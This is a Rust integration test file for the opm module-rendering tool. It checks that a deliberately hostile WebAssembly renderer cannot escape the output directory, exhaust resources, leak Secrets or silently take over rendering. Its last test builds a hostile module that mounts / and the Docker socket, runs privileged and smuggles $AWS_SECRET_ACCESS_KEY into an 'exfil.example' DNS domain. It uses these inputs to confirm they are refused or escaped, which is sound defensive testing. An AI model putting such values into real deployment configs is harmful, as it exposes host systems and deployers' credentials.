//! The renderer as the host meets it: a provider's renderer that misbehaves in every way the
//! contract allows a guest to (`transformers/testing/hostile-renderer`, told how by the module
//! label `renderer-mode`) fails the render with its name and nothing written, and never makes
//! the host write outside `--out-dir`, wait, allocate or print without bound; the shared
//! catalog is one vocabulary for both embedded providers; what a provider cannot honour is said,
//! with its reason.

use opm_tests::{guests, opm, write_file};

/// The embedded Kubernetes provider as a source directory, with the hostile renderer in place
/// of its own.
fn provider_with_hostile_renderer() -> tempfile::TempDir {
    let dir = opm_tests::provider_with(&[]);
    let manifest_path = dir.path().join("provider.yaml");
    let manifest = std::fs::read_to_string(&manifest_path).unwrap();
    let mut manifest: serde_json::Value = serde_saphyr::from_str(&manifest).unwrap();
    manifest["renderer"]["component"] = "hostile-renderer.wasm".into();
    manifest["renderer"]["name"] = "Hostile Renderer".into();
    manifest["renderer"]["limits"] =
        serde_json::json!({"fuel": 500_000_000, "memory": "256Mi", "timeout": "2s"});
    std::fs::write(&manifest_path, serde_saphyr::to_string(&manifest).unwrap()).unwrap();
    std::fs::write(
        dir.path().join("hostile-renderer.wasm"),
        guests::TESTING_HOSTILE_RENDERER,
    )
    .unwrap();
    dir
}

/// A module of one stateless component and one Secret, labelled with the renderer's `mode`.
fn module(dir: &std::path::Path, mode: &str) -> String {
    write_file(
        dir,
        "module.yaml",
        &format!(
            "apiVersion: core.opm.dev/v1
kind: Module
metadata:
  name: shop
  version: 1.0.0
  labels: {{renderer-mode: {mode}}}
components:
  api:
    resources:
      Container: {{image: nginx:1.27, ports: {{http: {{containerPort: 8080}}}}}}
    traits:
      Expose: {{type: ClusterIP}}
  creds:
    resources:
      Secret: {{type: Opaque, stringData: {{password: correct-horse-battery}}}}
"
        ),
    )
}

fn render(mode: &str, extra: &[&str]) -> (tempfile::TempDir, opm_tests::Run) {
    let provider = provider_with_hostile_renderer();
    let module = module(provider.path(), mode);
    let provider_dir = provider.path().display().to_string();
    let mut args = vec!["mod", "build", &module, "-p", &provider_dir];
    args.extend_from_slice(extra);
    let run = opm(args);
    (provider, run)
}

#[test]
fn a_renderer_lays_out_what_the_host_writes() {
    let (_dir, run) = render("list", &[]);
    assert!(run.exited(0), "{}", run.stderr);
    // The resources in the order of the plan's calls (by component, then transformer), each
    // call's as it returned them.
    assert_eq!(
        run.stdout,
        "Service api api\nDeployment api api\nSecret creds creds\n"
    );
    // --verbose reports the renderer's call like a transform call.
    let (_dir, run) = render("list", &["--verbose=json"]);
    assert!(run.exited(0), "{}", run.stderr);
    let event = run
        .stderr
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap())
        .find(|event| event["event"] == "renderer")
        .unwrap_or_else(|| panic!("no renderer event in\n{}", run.stderr));
    assert_eq!(event["renderer"], "renderer Hostile Renderer 1.0.0");
    assert_eq!(event["files"], 1);
    assert!(event["fuel"].as_u64().unwrap() > 0, "{event}");
}

/// Since contract 1.2.0 a file has a mode, and a render of several files prints without
/// `--out-dir`: every renderer's in the host's one multi-file form (docs/rendering.md,
/// "Several files on stdout"). Before, the host refused the render.
#[test]
fn several_files_print_in_the_multi_file_form_and_are_written_with_their_modes() {
    let (_dir, run) = render("two-files", &[]);
    assert!(run.exited(0), "{}", run.stderr);
    assert_eq!(
        run.stdout,
        "==> a.yaml <==\na\n\n==> secrets/b (0600) <==\nb\n\n==> bin/run (0755) <==\n#!/bin/sh\n"
    );
    let out = tempfile::tempdir().unwrap();
    let dir = out.path().join("out");
    let (_provider, run) = render("two-files", &["--out-dir", dir.to_str().unwrap()]);
    assert!(run.exited(0), "{}", run.stderr);
    use std::os::unix::fs::MetadataExt as _;
    let mode = |path: &str| std::fs::metadata(dir.join(path)).unwrap().mode() & 0o777;
    assert_eq!(mode("secrets/b"), 0o600);
    assert_eq!(mode("bin/run") & 0o100, 0o100);
    assert_eq!(mode("a.yaml") & 0o111, 0);
    assert_eq!(std::fs::read(dir.join("secrets/b")).unwrap(), b"b\n");
}

#[test]
fn a_renderer_that_misbehaves_fails_the_render_by_name_and_nothing_is_written() {
    for (mode, expected) in [
        ("spin", "ran out of fuel: used all 500000000 units"),
        ("hog", "hit the memory limit of 256 MiB"),
        ("panic", "panicked"),
        (
            "escape",
            "returned the file path \"../outside.txt\", which is absolute or has an empty, `.` or `..` segment",
        ),
        ("absolute", "returned the file path \"/etc/opm-was-here\""),
        ("twice", "returned the file \"a.yaml\" twice"),
        (
            "no-such-resource",
            "asked for resource #4294967295 as YAML, but it was given 3",
        ),
        (
            "yaml-flood",
            "asked for resource #0 as YAML more than 4 times, the limit per resource",
        ),
        // Security review (2026-11): the limit counted all chunks together, so one large resource
        // could be asked for as often as all of them.
        (
            "yaml-one-resource",
            "asked for resource #0 as YAML more than 4 times, the limit per resource",
        ),
        (
            "refuse-flood",
            "refused 2000000 resources, but it was given 3",
        ),
        ("deep", "is more than 16 folders deep"),
        (
            "huge",
            "more data at once than its output limit of 64.0 MiB allows",
        ),
        (
            "refuse-nothing-there",
            "refused resource #4294967295, but it was given 3",
        ),
        ("fail", "failed: cannot write shop as yaml"),
    ] {
        let out = tempfile::tempdir().unwrap();
        let out_dir = out.path().join("deploy");
        std::fs::create_dir(&out_dir).unwrap();
        std::fs::write(out_dir.join("before.yaml"), "kept\n").unwrap();
        let target = out_dir.display().to_string();
        let with_dir = matches!(mode, "escape" | "absolute" | "twice");
        let extra: Vec<&str> = if with_dir {
            vec!["--out-dir", &target]
        } else {
            vec![]
        };
        let (_dir, run) = render(mode, &extra);
        assert!(run.exited(1), "{mode}: {:?}\n{}", run.status, run.stderr);
        assert_eq!(run.stdout, "", "{mode}");
        assert!(
            run.stderr
                .contains("renderer Hostile Renderer 1.0.0 (blake3:")
                && run.stderr.contains(expected),
            "{mode}: {expected:?} missing from\n{}",
            run.stderr
        );
        assert_eq!(
            std::fs::read_to_string(out_dir.join("before.yaml")).unwrap(),
            "kept\n",
            "{mode}: the output directory is as it was"
        );
        assert!(!out.path().join("outside.txt").exists(), "{mode}");
        assert!(
            !std::path::Path::new("/etc/opm-was-here").exists(),
            "{mode}"
        );
    }
}

#[test]
fn what_a_renderer_refuses_fails_the_transformers_that_returned_it() {
    let (_dir, run) = render("refuse-all", &[]);
    assert!(run.exited(1), "{}", run.stderr);
    assert!(
        run.stderr
            .contains("render failed with 3 problems in 2 components"),
        "{}",
        run.stderr
    );
    for (component, kind) in [
        ("api", "Deployment"),
        ("api", "Service"),
        ("creds", "Secret"),
    ] {
        assert!(
            run.stderr.contains(&format!("component {component:?}:"))
                && run.stderr.contains(&format!(
                    "returned a resource that renderer Hostile Renderer 1.0.0 refuses: {kind} is \
                     not welcome here"
                )),
            "{component} {kind}:\n{}",
            run.stderr
        );
    }
}

/// What a renderer logs at `warn` level is a warning the user sees, redacted like any guest's
/// words: the Secret's value reaches the rendered output only. (The value is supplied with
/// `--set`: one the module file writes itself is public.)
#[test]
fn a_renderer_s_warnings_are_shown_and_never_hold_a_secret() {
    let (_dir, run) = render(
        "log-secret",
        &[
            "--set",
            "components.creds.resources.Secret.stringData.password=correct-horse-battery",
        ],
    );
    assert!(run.exited(0), "{}", run.stderr);
    assert!(
        run.stderr
            .contains("warning: renderer Hostile Renderer 1.0.0: {"),
        "{}",
        run.stderr
    );
    assert!(
        !run.stderr.contains("correct-horse-battery"),
        "{}",
        run.stderr
    );
}

/// The definitions are the module's vocabulary, not one provider's: every embedded bundle holds
/// exactly the shared catalog's.
#[test]
fn every_embedded_provider_holds_the_shared_catalog_byte_for_byte() {
    let catalog = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../providers/catalog/definitions.yaml"),
    )
    .unwrap();
    let catalog: serde_json::Value = serde_saphyr::from_str(&catalog).unwrap();
    let canonical = |value: &serde_json::Value| opm_core::bundle::format::canonical_json(value);
    let expected = canonical(&catalog["definitions"]);
    let names: Vec<&str> = opm_runtime::embedded::PROVIDERS.names().collect();
    assert_eq!(names, ["kubernetes", "docker-compose", "quadlet"]);
    for name in names {
        let bundle = opm_core::bundle::read(
            name,
            opm_runtime::embedded::PROVIDERS
                .bundle_of(name)
                .expect("embedded"),
        )
        .unwrap();
        let manifest: serde_json::Value = serde_json::from_slice(&bundle.manifest).unwrap();
        assert!(
            canonical(&manifest["definitions"]) == expected,
            "{name}'s definitions differ from providers/catalog/definitions.yaml"
        );
    }
}

/// A module that vets on one provider vets on the other; what compose cannot honour is a
/// warning with the provider's reason, an error under --strict, and a component compose cannot
/// run is left out with its reason.
#[test]
fn what_a_provider_cannot_honour_is_said_with_its_reason() {
    let dir = tempfile::tempdir().unwrap();
    let module = write_file(
        dir.path(),
        "module.yaml",
        "apiVersion: core.opm.dev/v1
kind: Module
metadata: {name: shop, version: 1.0.0}
components:
  web:
    resources:
      Container: {image: nginx:1.27, ports: {http: {containerPort: 8080}}}
    traits:
      Expose: {type: ClusterIP}
      Ingress: {host: shop.example.com}
  nightly:
    metadata: {labels: {core.opm.dev/workload-type: cronjob}}
    resources:
      Container: {image: busybox:1.36, command: ['true']}
    traits:
      Schedule: {cron: '0 3 * * *'}
",
    );
    for provider in ["kubernetes", "docker-compose", "quadlet"] {
        let run = opm(["mod", "vet", &module, "-p", provider]);
        assert!(run.exited(0), "{provider}: {}{}", run.stdout, run.stderr);
    }
    let run = opm(["mod", "build", &module, "-p", "docker-compose"]);
    assert!(run.exited(0), "{}", run.stderr);
    assert!(
        run.stderr.contains("component \"web\": no matched transformer handles opm.dev/traits/network@v1#Ingress; opm.dev/traits/network@v1#Ingress: compose has no HTTP router"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains("component \"nightly\" is left out: provider docker-compose cannot run it: compose has no scheduler"),
        "{}",
        run.stderr
    );
    assert!(run.stdout.contains("services:"), "{}", run.stdout);
    assert!(!run.stdout.contains("nightly"), "{}", run.stdout);
    let strict = opm(["mod", "build", &module, "-p", "docker-compose", "--strict"]);
    assert!(strict.exited(1), "{}", strict.stderr);
    assert_eq!(strict.stdout, "");
}

/// The guest `testing-hostile-renderer` is exercised by the tests above.
pub(crate) fn testing_hostile_renderer() {}

/// A provider that ships only the hostile renderer, called `name`, in a directory of its own.
fn renderer_only_provider(name: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("hostile-renderer.wasm"),
        guests::TESTING_HOSTILE_RENDERER,
    )
    .unwrap();
    write_file(
        dir.path(),
        "provider.yaml",
        &format!(
            "apiVersion: core.opm.dev/v1
kind: Provider
metadata: {{name: {name}, version: 0.1.0, labels: {{core.opm.dev/format: listing}}}}
renderer: {{name: Listing, version: 0.1.0, component: hostile-renderer.wasm}}
transformers: {{}}
"
        ),
    );
    dir
}

/// `opm mod COMMAND MODULE -p kubernetes -p PROVIDER EXTRA…`.
fn beside_kubernetes(
    command: &str,
    module: &str,
    provider: &str,
    extra: &[&str],
) -> opm_tests::Run {
    let mut args = vec!["mod", command, module, "-p", "kubernetes", "-p", provider];
    args.extend_from_slice(extra);
    opm(args)
}

/// A provider that ships only a renderer writes the others' objects in its own form when it is
/// named to: a third-party renderer for the standard transformers, whatever platform label it
/// states. `mod vet` and `--verbose` say which renderer writes the files.
#[test]
fn a_provider_that_ships_only_a_renderer_writes_the_standard_transformers_objects_when_named() {
    let dir = renderer_only_provider("listing");
    let module = module(dir.path(), "list");
    let provider = dir.path().display().to_string();
    let run = beside_kubernetes("build", &module, &provider, &["--renderer", "listing"]);
    assert!(run.exited(0), "{}", run.stderr);
    assert_eq!(
        run.stdout,
        "Service api api\nDeployment api api\nSecret creds creds\n"
    );
    let vet = beside_kubernetes("vet", &module, &provider, &["--renderer", "listing"]);
    assert!(vet.exited(0), "{}", vet.stderr);
    assert!(
        vet.stdout
            .contains("renderer Listing 0.1.0 of provider listing (named to write the files)\n"),
        "{}",
        vet.stdout
    );
    let shipped = "of provider kubernetes (shipped by the providers with transformers)\n";
    let alone = opm(["mod", "vet", &module]);
    assert!(alone.stdout.contains(shipped), "{}", alone.stdout);
    let verbose = opm(["mod", "build", &module, "--verbose"]);
    assert!(verbose.exited(0), "{}", verbose.stderr);
    assert!(verbose.stderr.contains(shipped), "{}", verbose.stderr);
}

/// Security review (2026-11): a second provider that ships only a renderer silently replaced the
/// Kubernetes renderer, saw every resource (Secrets included) and wrote a Pod no transformer
/// made. Unnamed, it is refused before anything runs, saying how to choose it; `mod diff`
/// compares what the renderer wrote, so the Pod it adds shows when it is chosen.
#[test]
fn a_second_provider_cannot_take_over_the_renderer_unless_it_is_named() {
    let acme = renderer_only_provider("acme-style");
    let module = module(acme.path(), "inject");
    let provider = acme.path().display().to_string();
    for command in ["build", "vet"] {
        let run = beside_kubernetes(command, &module, &provider, &[]);
        assert!(run.exited(2), "{command}: {}", run.stderr);
        assert_eq!(run.stdout, "", "{command}");
        for expected in [
            "provider acme-style",
            "ships only a renderer",
            "in place of provider kubernetes's renderer",
            "--renderer acme-style",
        ] {
            assert!(
                run.stderr.contains(expected),
                "{command}: {expected}: {}",
                run.stderr
            );
        }
    }
    let bad = beside_kubernetes("build", &module, &provider, &["--renderer", "nobody"]);
    assert!(bad.exited(2), "{}", bad.stderr);
    assert!(
        bad.stderr.contains("--renderer nobody: no provider"),
        "{}",
        bad.stderr
    );

    // The clean render, committed; then the diff of the render the hostile renderer writes.
    let deploy = acme.path().join("deploy");
    let clean = opm([
        "mod",
        "build",
        &module,
        "--split",
        "--out-dir",
        &deploy.display().to_string(),
    ]);
    assert!(clean.exited(0), "{}", clean.stderr);
    let against = deploy.display().to_string();
    let diff = beside_kubernetes(
        "diff",
        &module,
        &provider,
        &["--renderer", "acme-style", "--against", &against],
    );
    assert!(diff.exited(1), "{}{}", diff.stdout, diff.stderr);
    assert!(
        diff.stdout.contains("added: Pod kube-system/injected"),
        "{}",
        diff.stdout
    );
}

/// With docker-compose as with Kubernetes, a Secret's value reaches the rendered output and
/// nothing else: not the warnings, not `--verbose` (the calls' and the renderer's logs), not its
/// JSON form.
#[test]
fn a_secret_reaches_only_the_compose_file() {
    let module = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures/compose-run/module.yaml")
        .display()
        .to_string();
    for verbose in [None, Some("--verbose"), Some("--verbose=json")] {
        let mut args = vec!["mod", "build", &module, "-p", "docker-compose"];
        args.extend(verbose);
        let run = opm(args);
        assert!(run.exited(0), "{verbose:?}: {}", run.stderr);
        assert!(
            run.stdout.contains("API_TOKEN: s3cret-token-for-compose"),
            "{}",
            run.stdout
        );
        assert!(
            !run.stderr.contains("s3cret-token-for-compose"),
            "{verbose:?}: {}",
            run.stderr
        );
    }
}

/// A directory laid out as a Go project is, with a repository.
fn go_project(dir: &std::path::Path) {
    for (path, content) in [
        ("main.go", "package main\n"),
        ("go.mod", "module example.com/x\n"),
        ("README.md", "# x\n"),
        ("internal/x.go", "package internal\n"),
        (".git/HEAD", "ref: refs/heads/main\n"),
    ] {
        let path = dir.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }
}

/// Security review (2026-11): the guard of `--out-dir` accepted any extension the render wrote, so a
/// renderer writing `x.go` and `README.md` turned a Go project into its own files. Whatever a
/// renderer writes, a directory holding what opm did not write is refused and left as it was.
#[test]
fn out_dir_never_removes_what_opm_did_not_write_whatever_the_renderer_writes() {
    let provider = provider_with_hostile_renderer();
    let work = provider.path().join("work");
    go_project(&work);
    let out_dir = work.display().to_string();
    for (mode, provider_dir) in [
        ("project-files", provider.path().display().to_string()),
        ("list", "kubernetes".to_owned()),
    ] {
        let module = module(provider.path(), mode);
        let run = opm([
            "mod",
            "build",
            &module,
            "-p",
            &provider_dir,
            "--split",
            "--out-dir",
            &out_dir,
        ]);
        assert!(run.exited(2), "{mode}: {}", run.stderr);
        assert!(
            run.stderr.contains("never removes what it did not write"),
            "{}",
            run.stderr
        );
        for kept in [
            "main.go",
            "go.mod",
            "README.md",
            "internal/x.go",
            ".git/HEAD",
        ] {
            assert!(work.join(kept).is_file(), "{mode}: {kept} is gone");
        }
    }
}

/// What opm wrote it may replace: a directory it wrote holds its files and the record of them,
/// and is replaced by the next render; a file someone adds to it stops the next one.
#[test]
fn out_dir_is_replaced_only_while_it_holds_what_opm_recorded() {
    let provider = provider_with_hostile_renderer();
    let out = provider.path().join("out");
    let out_dir = out.display().to_string();
    let provider_dir = provider.path().display().to_string();
    let module = module(provider.path(), "project-files");
    let build = || {
        opm([
            "mod",
            "build",
            &module,
            "-p",
            &provider_dir,
            "--out-dir",
            &out_dir,
        ])
    };
    let first = build();
    assert!(first.exited(0), "{}", first.stderr);
    assert_eq!(
        opm_tests::file_names(&out),
        [
            ".opm-output",
            "README.md",
            "go.mod",
            "main.go",
            "opm.render",
            "out.yaml",
            "x.sh"
        ]
    );
    let record = std::fs::read_to_string(out.join(".opm-output")).unwrap();
    assert!(
        record.ends_with("\nout.yaml\nmain.go\ngo.mod\nREADME.md\nx.sh\nopm.render\n"),
        "{record}"
    );
    let again = build();
    assert!(again.exited(0), "{}", again.stderr);
    std::fs::write(out.join("notes.txt"), "mine").unwrap();
    let refused = build();
    assert!(refused.exited(2), "{}", refused.stderr);
    assert!(refused.stderr.contains("notes.txt"), "{}", refused.stderr);
    assert_eq!(
        std::fs::read_to_string(out.join("notes.txt")).unwrap(),
        "mine"
    );
}

/// Security review (2026-11): a render killed with `kill -9` left its staging directory beside the
/// output for good. The next render removes those of processes that no longer run, and leaves
/// one that a running render may be using.
#[test]
fn the_staging_directory_of_a_killed_render_is_swept_by_the_next() {
    let provider = provider_with_hostile_renderer();
    let parent = provider.path().join("deploy");
    std::fs::create_dir(&parent).unwrap();
    // No process has an id this large (Linux's pid_max is at most 4,194,304).
    let stale = parent.join(".opm-out-2147483000-abcdef");
    std::fs::create_dir_all(stale.join("secrets")).unwrap();
    std::fs::write(stale.join("secrets/x"), "left behind").unwrap();
    let live = parent.join(format!(".opm-out-{}-ghijkl", std::process::id()));
    std::fs::create_dir(&live).unwrap();
    let module = module(provider.path(), "list");
    let out = parent.join("hello").display().to_string();
    let run = opm(["mod", "build", &module, "--split", "--out-dir", &out]);
    assert!(run.exited(0), "{}", run.stderr);
    assert!(!stale.exists(), "the killed render's directory stays");
    assert!(live.exists(), "a running render's directory was removed");
}

/// Security review (2026-11): the compose provider passed host access through (`/` and the Docker
/// socket mounted, the host network, `privileged`) with exit 0 and nothing on stderr, and left
/// `$` for `docker compose up` to fill in from the deployer's environment in `image`, `dns` and
/// more. Host access is refused unless the component asks for it, and no `$` of a module reaches
/// compose unescaped.
#[test]
fn compose_output_cannot_reach_the_host_unasked_nor_the_deployers_environment() {
    let dir = tempfile::tempdir().unwrap();
    let hostile = |labels: &str| {
        format!(
            "apiVersion: core.opm.dev/v1
kind: Module
metadata: {{name: grab, version: 0.1.0}}
components:
  web:
    metadata: {{labels: {{{labels}}}}}
    resources:
      Container:
        image: 'nginx:$${{GITHUB_TOKEN:-none}}'
        volumeMounts: {{root: {{mountPath: /host}}, sock: {{mountPath: /var/run/docker.sock}}}}
        securityContext: {{privileged: true}}
      Volumes:
        root: {{hostPath: {{path: /}}}}
        sock: {{hostPath: {{path: /var/run/docker.sock}}}}
    traits:
      PodNetwork: {{hostNetwork: true, dnsConfig: {{searches: ['$AWS_SECRET_ACCESS_KEY.exfil.example']}}}}
"
        )
    };
    let module = write_file(dir.path(), "module.yaml", &hostile(""));
    let run = opm(["mod", "build", &module, "-p", "docker-compose", "--strict"]);
    assert!(run.exited(1), "{}", run.stderr);
    assert!(
        run.stderr.contains("security.opm.dev/host-access"),
        "{}",
        run.stderr
    );
    assert_eq!(run.stdout, "");

    let module = write_file(
        dir.path(),
        "module.yaml",
        &hostile("security.opm.dev/host-access: 'true'"),
    );
    let run = opm(["mod", "build", &module, "-p", "docker-compose"]);
    assert!(run.exited(0), "{}", run.stderr);
    let unescaped = run
        .stdout
        .match_indices('$')
        .filter(|(at, _)| {
            let before = run.stdout[..*at].ends_with('$');
            let after = run.stdout[at + 1..].starts_with('$');
            !before && !after
        })
        .count();
    assert_eq!(
        unescaped, 0,
        "a `$` compose would interpolate:\n{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("$${GITHUB_TOKEN:-none}"),
        "{}",
        run.stdout
    );
}
